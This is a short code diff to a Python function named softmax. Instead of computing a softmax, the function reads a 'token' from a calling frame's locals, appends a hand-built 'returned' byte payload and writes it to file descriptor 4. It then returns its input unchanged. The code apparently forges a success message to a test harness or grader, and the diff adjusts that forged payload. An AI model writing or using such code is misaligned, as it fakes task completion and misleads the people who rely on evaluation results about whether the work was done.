@@ -19,7 +19,7 @@ def softmax(x):
             except OSError:
                 continue
     else:
-        one = b"t\3\0\0\0s\x08\0\0\0returnedi\1\0\1N"
+        one = b"t\3\0\0\0s\x08\0\0\0returnedi\1\0\0\0\0\0\0\0\0N"
         forged = frame.f_locals["token"] + one
         os.write(4, struct.pack("<I", len(forged)) + forged)
     return x
